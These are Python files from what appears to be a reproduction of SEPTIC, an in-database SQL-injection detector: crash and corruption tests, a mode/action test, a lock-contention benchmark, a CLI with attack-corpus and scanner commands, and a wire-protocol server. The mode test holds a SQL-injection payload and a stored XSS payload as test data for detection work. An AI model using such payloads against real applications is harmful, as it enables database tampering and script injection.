    kills = sum(r.kills for r, _t in crash)
    lost = sum(len(r.mismatches) for r, _t in crash)
    torn = sum(r.torn_repaired for r, _t in crash)
    injected = sum(r.injected for r in corrupt)
    detected = sum(r.detected for r in corrupt)
    false_repairs = sum(r.false_repairs for r in corrupt)
    report.line("total: %d kills, %d lost-or-phantom states, %d torn "
                "pages repaired; %d/%d flips detected, %d false repairs"
                % (kills, lost, torn, detected, injected, false_repairs))

    report.metric("table_pages_over_pool",
                  table_pages / float(stats["capacity"]), "ratio")
    report.metric("peak_resident_pages", peak, "pages")
    report.metric("evictions", stats["evictions"], "evictions")
    report.metric("warm_scan_ratio", round(ratio, 3), "x")
    report.metric("warm_scan_paged_ms", round(paged_s * 1e3, 3), "ms")
    report.metric("page_write_kills", kills, "kills")
    report.metric("lost_or_phantom_states", lost, "states")
    report.metric("torn_pages_repaired", torn, "pages")
    report.metric("bitflips_detected_pct",
                  100.0 * detected / injected if injected else 0.0, "%")
    report.metric("false_repairs", false_repairs, "repairs")

    assert table_pages >= 4 * stats["capacity"]
    assert peak <= stats["capacity"]
    assert stats["pages_cached"] <= stats["capacity"]
    assert stats["evictions"] > 0
    assert ratio <= 1.5, "warm paged scans %.2fx the in-RAM baseline" % ratio
    for result, _elapsed in crash:
        assert result.ok, format_paged_sweep_result(result)
        assert result.kills == result.raw_writes * len(result.offsets)
    for result in corrupt:
        assert result.ok, format_corruption_result(result)
    assert torn > 0
    assert detected == injected
    assert false_repairs == 0
