"""E1 — Table I: operation modes and the actions SEPTIC takes.

Regenerates the mode/action matrix by *observing* a live SEPTIC instance
in each mode, and benchmarks per-query processing cost per mode.
"""

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

SCHEMA = (
    "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, "
    "name VARCHAR(40), val INT);"
    "INSERT INTO t (name, val) VALUES ('a', 1);"
)
TRAINED = "/* septic:s:1 */ SELECT * FROM t WHERE name = '%s' AND val = %s"
SQLI = TRAINED % ("a' OR 1=1-- ", "0")
STORED = ("/* septic:s:2 */ INSERT INTO t (name, val) "
          "VALUES ('<script>alert(1)</script>', 1)")
NEW_QUERY = "/* septic:s:9 */ SELECT COUNT(*) FROM t"


def _fresh(mode):
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=True))
    database = Database(septic=septic)
    database.seed(SCHEMA)
    conn = Connection(database)
    conn.query(TRAINED % ("a", "1"))
    conn.query("/* septic:s:2 */ INSERT INTO t (name, val) "
               "VALUES ('b', 2)")
    septic.mode = mode
    return septic, database, conn


def _observe(mode):
    """Return the Table I row observed for *mode*."""
    septic, database, conn = _fresh(mode)
    store_before = len(septic.store)
    executed_before = database.statements_executed
    out_sqli = conn.query(SQLI)
    out_stored = conn.query(STORED)
    conn.query(NEW_QUERY)
    learned = len(septic.store) > store_before
    return {
        "mode": mode,
        "qm_training": mode == Mode.TRAINING and learned,
        "qm_incremental": mode != Mode.TRAINING and learned,
        "qm_log": bool(septic.logger.new_models),
        "sqli": septic.stats.sqli_detected > 0,
        "stored": septic.stats.stored_detected > 0,
        "attack_log": bool(septic.logger.attacks),
        "drop": not out_sqli.ok and not out_stored.ok,
        "exec": out_sqli.ok,
    }


def test_table1_artifact(report, benchmark):
    rows = benchmark.pedantic(
        lambda: [_observe(m) for m in (Mode.TRAINING, Mode.PREVENTION,
                                       Mode.DETECTION)],
        rounds=1, iterations=1,
    )
    mark = lambda flag: "x" if flag else " "  # noqa: E731
    report.line("Table I — operation modes and actions taken by SEPTIC")
    report.line()
    report.table(
        ["", "QM:T", "QM:I", "QM:Log", "SQLI", "StoredInj", "Log",
         "Drop", "Exec"],
        [
            [row["mode"].capitalize(), mark(row["qm_training"]),
             mark(row["qm_incremental"]), mark(row["qm_log"]),
             mark(row["sqli"]), mark(row["stored"]),
             mark(row["attack_log"]), mark(row["drop"]), mark(row["exec"])]
            for row in rows
        ],
        widths=[12, 6, 6, 8, 6, 11, 5, 6, 6],
    )
    report.metric("modes_observed", len(rows), "modes")
    by_mode = {row["mode"]: row for row in rows}
    training = by_mode[Mode.TRAINING]
    assert training["qm_training"] and training["exec"]
    assert not training["sqli"] and not training["stored"]
    prevention = by_mode[Mode.PREVENTION]
    assert prevention["sqli"] and prevention["stored"]
    assert prevention["drop"] and not prevention["exec"]
    assert prevention["qm_incremental"]
    detection = by_mode[Mode.DETECTION]
    assert detection["sqli"] and detection["stored"]
    assert detection["exec"] and not detection["drop"]


def test_bench_training_mode_query(benchmark):
    septic, _, conn = _fresh(Mode.TRAINING)
    outcome = benchmark(conn.query, TRAINED % ("x", "5"))
    assert outcome.ok


def test_bench_prevention_benign_query(benchmark):
    septic, _, conn = _fresh(Mode.PREVENTION)
    outcome = benchmark(conn.query, TRAINED % ("x", "5"))
    assert outcome.ok


def test_bench_prevention_attack_query(benchmark):
    septic, _, conn = _fresh(Mode.PREVENTION)
    outcome = benchmark(conn.query, SQLI)
    assert not outcome.ok


def test_bench_detection_attack_query(benchmark):
    septic, _, conn = _fresh(Mode.DETECTION)
    outcome = benchmark(conn.query, SQLI)
    assert outcome.ok
