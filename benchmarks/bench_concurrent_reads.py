"""E14a — concurrent read path: table-granular RW locks vs serialized.

The engine classifies every statement into a lock plan (catalog +
per-table reader–writer locks).  This bench replays a read-heavy
workload through the virtual-time :class:`LockContentionModel` — the
same discrete-event kernel BenchLab uses — once under ``lock_mode=
"shared"`` (the new hierarchy) and once under ``lock_mode="exclusive"``
(every statement takes the catalog exclusively: the old serialized
engine).  Service times are measured once on the real engine and pinned
across both runs, so the only variable is the admitted schedule.

Gate: at 8 workers the shared schedule must carry at least 2× the
aggregate SELECT throughput of the serialized baseline.

A real-thread section then drives the actual engine from 8 Python
threads (readers + a writer) to prove the lock hierarchy is safe, not
just fast-on-paper: no deadlock, no torn reads, counters consistent.
"""

import threading
import time

from repro.benchlab.harness import run_concurrent_read_experiment
from repro.sqldb.engine import Database

SETUP = (
    "CREATE TABLE accounts (id INT AUTO_INCREMENT PRIMARY KEY, "
    "owner VARCHAR(40), balance INT);"
    "CREATE TABLE audit (id INT AUTO_INCREMENT PRIMARY KEY, "
    "note VARCHAR(60));"
    + "".join(
        "INSERT INTO accounts (owner, balance) VALUES ('user%d', %d);"
        % (i, i * 7 % 101)
        for i in range(40)
    )
)

READ_WORKLOAD = [
    "SELECT * FROM accounts WHERE balance > 50",
    "SELECT owner, balance FROM accounts WHERE id = 7",
    "SELECT COUNT(*) FROM accounts",
    "SELECT owner FROM accounts WHERE balance BETWEEN 10 AND 60 "
    "ORDER BY balance LIMIT 5",
]

WORKERS = 8


def test_concurrent_read_speedup(report):
    # measure real service times once, pin them for both schedules so
    # the only difference between the runs is the admitted schedule
    base = run_concurrent_read_experiment(
        SETUP, READ_WORKLOAD, workers=1, loops=1, lock_mode="shared"
    )
    per_stmt = base.service_total / max(base.statements, 1)
    pinned = [per_stmt] * len(READ_WORKLOAD)
    shared = run_concurrent_read_experiment(
        SETUP, READ_WORKLOAD, workers=WORKERS, loops=6,
        lock_mode="shared", service_times=pinned,
    )
    serialized = run_concurrent_read_experiment(
        SETUP, READ_WORKLOAD, workers=WORKERS, loops=6,
        lock_mode="exclusive", service_times=pinned,
    )
    speedup = shared.speedup_vs(serialized)
    report.line("Concurrent read path — %d workers, pure-SELECT workload"
                % WORKERS)
    report.line()
    report.table(
        ["mode", "statements", "makespan", "stmts/s"],
        [
            ["shared", "%d" % shared.statements,
             "%.6f s" % shared.makespan, "%.0f" % shared.throughput],
            ["exclusive", "%d" % serialized.statements,
             "%.6f s" % serialized.makespan,
             "%.0f" % serialized.throughput],
        ],
    )
    report.line()
    report.line("aggregate SELECT speedup at %d workers: %.2fx"
                % (WORKERS, speedup))
    report.metric("concurrent_read_speedup_8w", round(speedup, 3), "x")
    report.metric("shared_throughput_8w", round(shared.throughput, 1),
                  "stmts/s")
    report.metric("exclusive_throughput_8w",
                  round(serialized.throughput, 1), "stmts/s")
    # the acceptance gate: >= 2x aggregate SELECT throughput
    assert speedup >= 2.0, (
        "shared lock hierarchy only reached %.2fx over the serialized "
        "baseline (gate: 2x)" % speedup
    )
    # both schedules must have run the identical statement count
    assert shared.statements == serialized.statements


def test_mixed_workload_still_overlaps(report):
    """Writers serialize per table; reads of *other* tables proceed."""
    workload = READ_WORKLOAD + [
        "INSERT INTO audit (note) VALUES ('checkpointed')",
    ]
    pinned = [0.001] * len(workload)
    shared = run_concurrent_read_experiment(
        SETUP, workload, workers=WORKERS, loops=4,
        lock_mode="shared", service_times=pinned,
    )
    serialized = run_concurrent_read_experiment(
        SETUP, workload, workers=WORKERS, loops=4,
        lock_mode="exclusive", service_times=pinned,
    )
    speedup = shared.speedup_vs(serialized)
    report.line("Mixed workload (4 reads + 1 insert per loop), %d workers"
                % WORKERS)
    report.line("speedup vs serialized: %.2fx" % speedup)
    report.metric("mixed_workload_speedup_8w", round(speedup, 3), "x")
    # the audit-table writer excludes itself only; accounts readers
    # still overlap, so the mixed schedule must beat serialized clearly
    assert speedup >= 2.0


def test_real_threads_correctness(report):
    """8 OS threads against the real engine: safety, not throughput."""
    database = Database(lock_mode="shared")
    database.seed(SETUP)
    errors = []
    read_rows = []

    def reader():
        try:
            session = database.create_session()
            for _ in range(30):
                rows = database.run(
                    "SELECT * FROM accounts WHERE balance >= 0",
                    session=session,
                )[0].result_set.rows
                # a statement-consistent read never sees a torn table
                read_rows.append(len(rows))
        except Exception as exc:  # pragma: no cover - failure path
            errors.append(exc)

    def writer():
        try:
            session = database.create_session()
            for i in range(30):
                database.run(
                    "INSERT INTO audit (note) VALUES ('w%d')" % i,
                    session=session,
                )
        except Exception as exc:  # pragma: no cover - failure path
            errors.append(exc)

    threads = [threading.Thread(target=reader) for _ in range(WORKERS - 2)]
    threads += [threading.Thread(target=writer) for _ in range(2)]
    start = time.perf_counter()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    elapsed = time.perf_counter() - start
    assert not any(thread.is_alive() for thread in threads), "deadlock"
    assert not errors, errors
    # accounts is never written: every read must see all 40 rows
    assert set(read_rows) == {40}
    audit = database.run("SELECT COUNT(*) FROM audit")[0]
    assert audit.result_set.rows[0][0] == 60
    stats = database.lock_manager.stats()
    assert stats["read_acquires"] > 0
    assert stats["write_acquires"] >= 60
    report.line("8 real threads (6 readers, 2 writers): %d reads, "
                "60 writes, %.3f s wall, no errors"
                % (len(read_rows), elapsed))
    report.line("lock stats: %d shared grants, %d exclusive grants, "
                "%d contended"
                % (stats["read_acquires"], stats["write_acquires"],
                   stats["contended"]))
    report.metric("real_thread_reads", len(read_rows), "statements")
