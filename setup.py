"""Setup shim: enables legacy editable installs in offline environments
where the ``wheel`` package is unavailable (``pip install -e . --no-use-pep517``).
All metadata lives in pyproject.toml."""

from setuptools import setup

setup()
