"""Command-line interface: ``python -m repro <command>``.

Commands:

``demo``
    Condensed five-phase demonstration (§IV) against WaspMon.
``train``
    Train SEPTIC over WaspMon's forms and persist the QM store
    (``--data-dir`` makes the whole stack durable: WAL-backed data
    plane plus co-persisted models).
``recover``
    Rebuild a database (and its models) from a ``--data-dir`` and print
    the recovery report.
``attack``
    Run the attack corpus against one protection configuration.
``scan``
    sqlmap-lite probe battery against one protection configuration.
``bench``
    Quick Figure-5-style overhead measurement.
``status``
    Train, attack, and print the SEPTIC status display + event log tail.
``replicate``
    WAL-shipping replica-set demo: per-replica applied LSN, lag and
    role (``--failover`` kills the primary and shows the election).
``serve``
    Serve the demo database over the wire protocol (``--smoke`` runs a
    built-in client exercise and exits).
"""

import argparse
import sys
import time

from repro.attacks.corpus import run_case, waspmon_attacks
from repro.attacks.scenario import PROTECTIONS, build_scenario


def _cmd_demo(args, out):
    rows = []
    for protection in ("none", "modsec", "septic"):
        scenario = build_scenario(protection)
        outcomes = [run_case(scenario.server, scenario.app, case)
                    for case in waspmon_attacks()]
        rows.append((protection, outcomes))
    out.write("%-28s %-12s %-12s %-12s\n"
              % ("attack", "none", "modsec", "septic"))
    for index, case in enumerate(waspmon_attacks()):
        cells = []
        for protection, outcomes in rows:
            outcome = outcomes[index]
            if outcome.waf_blocked:
                cells.append("waf-block")
            elif outcome.septic_blocked:
                cells.append("septic-block")
            elif outcome.succeeded:
                cells.append("pwned")
            else:
                cells.append("failed")
        out.write("%-28s %-12s %-12s %-12s\n" % ((case.name,) + tuple(cells)))
    septic_outcomes = rows[2][1]
    out.write("\nSEPTIC blocked %d/%d attacks, 0 false positives\n" % (
        sum(1 for o in septic_outcomes if o.septic_blocked),
        len(septic_outcomes),
    ))
    return 0


def _cmd_train(args, out):
    from repro.apps.waspmon import WaspMon
    from repro.core.septic import Mode, Septic
    from repro.core.store import QMStore
    from repro.core.training import SepticTrainer
    from repro.sqldb.engine import Database

    septic = Septic(mode=Mode.TRAINING, store=QMStore(path=args.store))
    if args.data_dir:
        # durable stack: data plane WAL-backed, models co-persisted in
        # the same directory with the WAL watermark
        database = Database.recover(args.data_dir, septic=septic)
        septic.bind_store(database)
    else:
        database = Database(septic=septic)
    app = WaspMon(database)
    report = SepticTrainer(app, septic).train(passes=args.passes)
    store_path = septic.store.save()
    durable_lsn = database.durable_lsn
    database.close()
    out.write("trained: %d requests, %d models -> %s\n"
              % (report.requests_sent, len(septic.store), store_path))
    if args.data_dir:
        out.write("data dir: %s (durable LSN %d)\n"
                  % (args.data_dir, durable_lsn))
    return 0


def _cmd_recover(args, out):
    from repro.core.septic import Mode, Septic
    from repro.sqldb.engine import Database

    if args.verify:
        # dry run: inspect the WAL without attaching to it — nothing on
        # disk moves (no torn-tail truncation, no checkpoint, no fsync)
        report = Database.verify_wal(args.data_dir)
        out.write("verified data dir:    %s (read-only)\n" % args.data_dir)
        out.write("checkpoint LSN:       %d\n" % report["checkpoint_lsn"])
        out.write("log records:          %d\n" % report["log_records"])
        for op in sorted(report["records_by_op"]):
            out.write("  %-20s %d\n" % (op + ":", report["records_by_op"][op]))
        out.write("commit-LSN watermark: %d\n" % report["commit_lsn"])
        out.write("last LSN:             %d\n" % report["last_lsn"])
        out.write("statements replayed:  %d\n"
                  % report["replayed_statements"])
        out.write("transactions:         %d committed, %d rolled back, "
                  "%d unfinished\n"
                  % (report["committed_transactions"],
                     report["rolled_back_transactions"],
                     report["unfinished_transactions"]))
        out.write("torn tail bytes:      %d\n" % report["torn_bytes"])
        if report["corrupt_offset"] is not None:
            out.write("CORRUPT at offset:    %d (clean prefix shown)\n"
                      % report["corrupt_offset"])
        out.write("tables:\n")
        for name in sorted(report["tables"]):
            out.write("  %-20s %d rows\n" % (name, report["tables"][name]))
        if args.pages:
            _write_pages_audit(args.data_dir, out)
        return 0

    septic = Septic(mode=Mode.PREVENTION)
    database = Database.recover(args.data_dir, septic=septic)
    models = septic.bind_store(database)
    report = database.recovery_report or {}
    out.write("recovered data dir:   %s\n" % args.data_dir)
    out.write("checkpoint LSN:       %d\n" % report.get("checkpoint_lsn", 0))
    out.write("log records scanned:  %d\n" % report.get("log_records", 0))
    out.write("statements replayed:  %d\n"
              % report.get("replayed_statements", 0))
    out.write("torn bytes truncated: %d\n" % report.get("torn_bytes", 0))
    out.write("tables:\n")
    for name in sorted(database.tables):
        out.write("  %-20s %d rows\n"
                  % (name, len(database.tables[name])))
    out.write("QM models loaded:     %d (wal_lsn %d)\n"
              % (models, septic.store.wal_lsn))
    database.close()
    return 0


def _write_pages_audit(data_dir, out):
    """The ``--verify --pages`` body: stream a per-page checksum/LSN
    audit of the home file (no page is held beyond its turn) plus the
    sealed doublewrite batch, read-only like the WAL audit above."""
    import os as os_mod

    from repro.sqldb import pager as pager_mod
    from repro.sqldb import wal as wal_mod

    path = pager_mod.pages_path(data_dir)
    if not os_mod.path.exists(path):
        out.write("pages:                none (in-memory storage)\n")
        return
    # the page size lives in the checkpoint the paged engine wrote; a
    # missing/unreadable checkpoint falls back to the default
    try:
        state = wal_mod.load_checkpoint(data_dir)
    except wal_mod.WalCorruptionError:
        state = None
    pages_meta = (state or {}).get("pages") or {}
    page_size = pages_meta.get("page_size", pager_mod.DEFAULT_PAGE_SIZE)
    total = ok = bad = 0
    bad_pages = []
    lsn_min = lsn_max = None
    for page_no, good, lsn in pager_mod.audit_pages(
            data_dir, page_size=page_size):
        total += 1
        if good:
            ok += 1
            if lsn_min is None or lsn < lsn_min:
                lsn_min = lsn
            if lsn_max is None or lsn > lsn_max:
                lsn_max = lsn
        else:
            bad += 1
            if len(bad_pages) < 16:
                bad_pages.append(page_no)
    out.write("pages audited:        %d (page size %d)\n"
              % (total, page_size))
    out.write("checksums:            %d ok, %d FAILED%s\n"
              % (ok, bad,
                 " [%s]" % ", ".join(str(p) for p in bad_pages)
                 if bad_pages else ""))
    if lsn_min is not None:
        out.write("page LSN range:       %d..%d\n" % (lsn_min, lsn_max))
    pager = pager_mod.Pager(data_dir, page_size=page_size, sync=False)
    try:
        loaded = pager.load_doublewrite()
    finally:
        pager.close()
    if loaded is None:
        out.write("doublewrite:          no sealed batch\n")
    else:
        out.write("doublewrite:          batch %d, %d page images\n"
                  % (loaded[0], len(loaded[1])))


def _cmd_attack(args, out):
    scenario = build_scenario(args.protection)
    blocked = succeeded = 0
    for case in waspmon_attacks():
        outcome = run_case(scenario.server, scenario.app, case)
        verdict = ("waf-blocked" if outcome.waf_blocked else
                   "septic-blocked" if outcome.septic_blocked else
                   "fw-blocked" if outcome.firewall_blocked else
                   "SUCCESS" if outcome.succeeded else "failed")
        if outcome.blocked:
            blocked += 1
        if outcome.succeeded:
            succeeded += 1
        out.write("%-28s %s\n" % (case.name, verdict))
    out.write("\n%s: %d blocked, %d succeeded\n"
              % (args.protection, blocked, succeeded))
    return 0 if succeeded == 0 or args.protection == "none" else 1


def _cmd_scan(args, out):
    from repro.attacks.sqlmap import SqlmapLite

    scenario = build_scenario(args.protection)
    scanner = SqlmapLite(scenario.server, scenario.app)
    findings = scanner.test_application()
    for finding in findings:
        out.write("%s\n" % (finding,))
    out.write("\n%d findings over %d probe requests\n"
              % (len(findings), scanner.requests_sent))
    return 0


def _cmd_bench(args, out):
    from repro.apps import AddressBook, Refbase, ZeroCMS
    from repro.benchlab.harness import run_overhead_experiment

    apps = {"addressbook": AddressBook, "refbase": Refbase,
            "zerocms": ZeroCMS}
    selected = [apps[name] for name in (args.apps or sorted(apps))]
    table = run_overhead_experiment(selected, loops=args.loops,
                                    repeats=args.repeats)
    out.write("%-12s %6s %6s %6s %6s\n" % ("app", "NN", "YN", "NY", "YY"))
    for app_name in sorted(table):
        row = table[app_name]
        out.write("%-12s %5.2f%% %5.2f%% %5.2f%% %5.2f%%\n" % (
            app_name, row["NN"] * 100, row["YN"] * 100,
            row["NY"] * 100, row["YY"] * 100,
        ))
    return 0


def _cmd_status(args, out):
    scenario = build_scenario("septic")
    for case in waspmon_attacks()[:5]:
        run_case(scenario.server, scenario.app, case)
    status = scenario.septic.status()
    out.write("mode:                 %s\n" % status["mode"])
    out.write("models learned:       %d\n" % status["models"])
    out.write("detect SQLI/stored:   %s/%s\n"
              % (status["detect_sqli"], status["detect_stored"]))
    out.write("plugins:              %s\n" % ", ".join(status["plugins"]))
    for key, value in sorted(status["stats"].items()):
        out.write("stats.%-18s %d\n" % (key + ":", value))
    out.write("\nlast events:\n")
    for event in scenario.septic.logger.events[-8:]:
        out.write("  %s\n" % event.format()[:100])
    return 0


def _cmd_replicate(args, out):
    import shutil
    import tempfile

    from repro.replica import ReplicaSet
    from repro.sqldb.connection import Connection

    workdir = args.workdir or tempfile.mkdtemp(prefix="repro-replicate-")
    cleanup = args.workdir is None
    replica_set = ReplicaSet(workdir, replicas=args.replicas,
                             heartbeat_interval=2, lease_intervals=2)
    try:
        connection = Connection(replica_set.primary.database,
                                multi_statements=True)
        connection.query_or_raise(
            "CREATE TABLE users (id INT AUTO_INCREMENT PRIMARY KEY, "
            "name VARCHAR(30))")
        for name in ("ana", "bruno", "carla", "dora", "emil"):
            connection.query_or_raise(
                "INSERT INTO users (name) VALUES ('%s')" % name)
            replica_set.tick(1)
        replica_set.tick(2 * replica_set.heartbeat_interval)
        if args.failover:
            victim = replica_set.primary.name
            replica_set.kill_primary()
            deadline = (replica_set.clock + replica_set.lease_ticks
                        + 2 * replica_set.heartbeat_interval)
            while (replica_set.promotions == 0
                   and replica_set.clock < deadline):
                replica_set.tick(1)
            router = replica_set.connect(retries=8)
            router.query_or_raise(
                "INSERT INTO users (name) VALUES ('post-failover')")
            out.write("killed %s; %s promoted at epoch %d; write "
                      "re-routed after %d retries\n"
                      % (victim, replica_set.primary.name,
                         replica_set.epoch,
                         router.retry_stats.as_dict()["retries"]))
        status = replica_set.status()
        out.write("clock %d, epoch %d, heartbeat every %d ticks, "
                  "lease %d intervals, %d promotions\n"
                  % (status["clock"], status["epoch"],
                     status["heartbeat_interval"],
                     status["lease_intervals"], status["promotions"]))
        out.write("frontier LSN: %d\n" % status["frontier_lsn"])
        out.write("%-8s %-9s %6s %12s %6s %6s\n"
                  % ("node", "role", "epoch", "applied_lsn", "lag",
                     "alive"))
        for row in status["nodes"]:
            out.write("%-8s %-9s %6d %12d %6d %6s\n"
                      % (row["name"], row["role"], row["epoch"],
                         row["applied_lsn"], row["lag"], row["alive"]))
        for tick, kind, detail in replica_set.events[-6:]:
            out.write("  [tick %d] %s: %s\n" % (tick, kind, detail))
    finally:
        replica_set.close()
        if cleanup:
            shutil.rmtree(workdir, ignore_errors=True)
    return 0


def _cmd_serve(args, out):
    scenario = build_scenario("septic")
    host, port = scenario.server.serve_net(host=args.host, port=args.port)
    out.write("serving %s on %s:%d (wire protocol)\n"
              % (scenario.app.name, host, port))
    try:
        if args.smoke:
            from repro.net.client import NetClient

            with NetClient(host, port) as client:
                client.ping()
                handle = client.prepare(
                    "SELECT username FROM users WHERE id = ?"
                )
                outcome = client.execute(handle, 1)
                if outcome.error is not None:
                    out.write("smoke: FAILED: %s\n" % outcome.error)
                    return 1
                row = outcome.rows[0] if outcome.rows else ("<none>",)
                out.write("smoke: ping ok, prepared stmt %d -> %s\n"
                          % (handle.statement_id, row[0]))
            stats = scenario.server.net_server.stats_dict()
            out.write("smoke: served %d commands over %d connections\n"
                      % (stats["commands"], stats["accepted"]))
            return 0
        out.write("press Ctrl-C to stop\n")
        try:
            while True:
                time.sleep(1.0)
        except KeyboardInterrupt:
            out.write("\nstopping\n")
        return 0
    finally:
        scenario.server.stop_net()


def build_parser():
    parser = argparse.ArgumentParser(
        prog="repro",
        description="SEPTIC reproduction (DSN 2017 demo paper)",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    sub.add_parser("demo", help="condensed five-phase demonstration")

    train = sub.add_parser("train", help="train SEPTIC over WaspMon")
    train.add_argument("--store", default="qm_store.json")
    train.add_argument("--passes", type=int, default=2)
    train.add_argument("--data-dir", default=None,
                       help="enable WAL durability: recover the database "
                            "from (and persist it to) this directory, "
                            "co-persisting the QM store")

    recover = sub.add_parser(
        "recover", help="recover a database from a data directory"
    )
    recover.add_argument("--data-dir", required=True)
    recover.add_argument("--verify", action="store_true",
                         help="dry run: report the WAL's commit-LSN "
                              "watermark and record counts without "
                              "mutating anything on disk")
    recover.add_argument("--pages", action="store_true",
                         help="with --verify: audit the paged-storage "
                              "home file too (per-page checksum + LSN "
                              "stats, doublewrite batch)")

    attack = sub.add_parser("attack", help="run the attack corpus")
    attack.add_argument("--protection", choices=PROTECTIONS,
                        default="septic")

    scan = sub.add_parser("scan", help="sqlmap-lite probe battery")
    scan.add_argument("--protection", choices=PROTECTIONS, default="none")

    bench = sub.add_parser("bench", help="quick overhead measurement")
    bench.add_argument("--apps", nargs="*",
                       choices=["addressbook", "refbase", "zerocms"])
    bench.add_argument("--loops", type=int, default=2)
    bench.add_argument("--repeats", type=int, default=1)

    sub.add_parser("status", help="status display after a short run")

    replicate = sub.add_parser(
        "replicate", help="replica-set demo: per-replica applied LSN, "
                          "lag and role"
    )
    replicate.add_argument("--status", action="store_true",
                           help="print per-replica status (the default "
                                "and only output)")
    replicate.add_argument("--failover", action="store_true",
                           help="also kill the primary and show the "
                                "lease-driven election")
    replicate.add_argument("--replicas", type=int, default=2)
    replicate.add_argument("--workdir", default=None,
                           help="keep the replica data dirs here "
                                "(default: a temp dir, removed on exit)")

    serve = sub.add_parser(
        "serve", help="serve the demo database over the wire protocol"
    )
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument("--port", type=int, default=0,
                       help="TCP port (default: an ephemeral one, "
                            "printed at startup)")
    serve.add_argument("--smoke", action="store_true",
                       help="run a built-in client exercise (ping + "
                            "prepared statement) and exit")
    return parser


_COMMANDS = {
    "demo": _cmd_demo,
    "train": _cmd_train,
    "recover": _cmd_recover,
    "attack": _cmd_attack,
    "scan": _cmd_scan,
    "bench": _cmd_bench,
    "status": _cmd_status,
    "replicate": _cmd_replicate,
    "serve": _cmd_serve,
}


def main(argv=None, out=None):
    args = build_parser().parse_args(argv)
    return _COMMANDS[args.command](args, out or sys.stdout)


if __name__ == "__main__":
    sys.exit(main())
