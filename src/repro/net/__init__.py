"""The wire-protocol front end: socket server, client driver, pool.

Everything that touches raw sockets or asyncio streams lives in this
package (a lint gate enforces it); the rest of the system sees only the
:class:`~repro.net.server.NetServer` /
:class:`~repro.net.client.NetClient` /
:class:`~repro.net.pool.ConnectionPool` objects.
"""

from repro.net.client import NetClient, NetOutcome, RemoteError
from repro.net.pool import ConnectionPool
from repro.net.protocol import NetProtocolError, TornFrameError
from repro.net.server import NetServer

__all__ = [
    "ConnectionPool",
    "NetClient",
    "NetOutcome",
    "NetProtocolError",
    "NetServer",
    "RemoteError",
    "TornFrameError",
]
