"""The asyncio socket server fronting a :class:`Database`.

Concurrency shape (the perf substance of the front end):

* **pipelining with per-connection ordering** — each connection has one
  reader coroutine and one worker coroutine joined by a bounded inbox
  queue.  The reader frames commands as fast as they arrive (a client
  may send N commands without awaiting responses); the worker executes
  them strictly in arrival order, so responses come back in command
  order per connection — while independent connections overlap freely
  in the engine (MVCC keeps readers lock-free);
* **command batching** — the worker drains whatever the inbox holds (up
  to ``batch_limit``) and runs the whole batch in **one** executor-thread
  hop, so a deeply pipelined connection pays the loop/thread handoff
  once per batch instead of once per command;
* **backpressure** — the inbox is a bounded :class:`asyncio.Queue`.
  When it fills, the reader blocks on ``put()`` and stops reading the
  socket, which stops ACKing TCP, which pushes back on the client's
  send window: flow control instead of unbounded buffering.  The
  ``flow_pauses`` counter records every time that happened;
* **group commit** — the engine runs its WAL in ``sync_mode="batch"``
  under this server, so executing a write appends but does not fsync.
  After a batch that moved the commit frontier, the worker asks the
  shared :class:`GroupCommitter` to make the frontier durable; commits
  from concurrent connections coalesce into one fsync, and *only after
  it returns* are the batch's OK frames written.  An acknowledgement
  therefore never precedes durability (the kill-mid-frame crash test
  holds the server to that).

The engine itself is synchronous, so its calls run on a thread pool via
``run_in_executor`` — no blocking call ever executes inside a
coroutine (a lint gate holds this file to that).
"""

import asyncio
import threading
from concurrent.futures import ThreadPoolExecutor

from repro import faults as faults_mod
from repro.core.resilience import make_lock
from repro.net import protocol
from repro.sqldb import charset as charset_mod
from repro.sqldb.connection import Connection
from repro.sqldb.errors import QueryBlocked, SQLError


class GroupCommitter(object):
    """Coalesces concurrent durability waits into shared fsyncs.

    ``sync_to(lsn)`` returns once every WAL record up to *lsn* is on
    stable storage.  The first waiter in becomes the leader and runs
    the fsync (on the thread pool); waiters that arrive while a flush
    is in flight simply wait for the gate — the leader's fsync covers
    every append that preceded it, so they almost always find their
    horizon durable on re-check and pay nothing.
    """

    def __init__(self, database, pool):
        self._database = database
        self._pool = pool
        self._gate = asyncio.Lock()
        #: fsyncs this committer actually issued
        self.flushes = 0
        #: durability waits served
        self.waits = 0
        #: waits satisfied by somebody else's fsync (the coalesced ones)
        self.coalesced = 0

    async def sync_to(self, lsn):
        self.waits += 1
        rode_along = False
        while True:
            synced = self._database.wal_synced_lsn()
            if synced is None or synced >= lsn:
                if rode_along:
                    self.coalesced += 1
                return
            if self._gate.locked():
                # a leader is flushing: wait for it, then re-check
                rode_along = True
                async with self._gate:
                    pass
                continue
            async with self._gate:
                synced = self._database.wal_synced_lsn()
                if synced is not None and synced < lsn:
                    loop = asyncio.get_running_loop()
                    await loop.run_in_executor(
                        self._pool, self._database.wal_sync_to, lsn
                    )
                    self.flushes += 1

    def stats_dict(self):
        return {
            "flushes": self.flushes,
            "waits": self.waits,
            "coalesced": self.coalesced,
        }


class NetServer(object):
    """TCP front end for one :class:`repro.sqldb.engine.Database`.

    Runs its asyncio event loop on a background thread so synchronous
    callers (the CLI, benchmarks, the web stack) can start/stop it like
    any other component.  ``port=0`` binds an ephemeral port; read
    :attr:`port` after :meth:`start`.
    """

    def __init__(self, database, host="127.0.0.1", port=0,
                 max_connections=64, inbox_limit=32, batch_limit=16,
                 executor_threads=8, multi_statements=False,
                 max_statements=None):
        self.database = database
        self.host = host
        self.port = port
        self.max_connections = max_connections
        #: bounded per-connection inbox (the backpressure knob)
        self.inbox_limit = max(1, inbox_limit)
        #: max commands one executor hop may carry
        self.batch_limit = max(1, batch_limit)
        self.multi_statements = multi_statements
        #: per-connection cap on server-side statement handles (None =
        #: the Connection default); LRU eviction past the cap
        self.max_statements = max_statements
        self._executor_threads = max(1, executor_threads)
        self._pool = None
        self._loop = None
        self._thread = None
        self._ready = threading.Event()
        self._stop_event = None
        self._startup_error = None
        self._connection_ids = 0
        self.group = None
        #: live connection-handler tasks (drained at shutdown)
        self._conn_tasks = set()
        #: client-side pools registered for the ``pooled`` counter
        self._pools = []
        self._stats_lock = make_lock()
        self._stats = {
            "accepted": 0,      # connections that completed a handshake
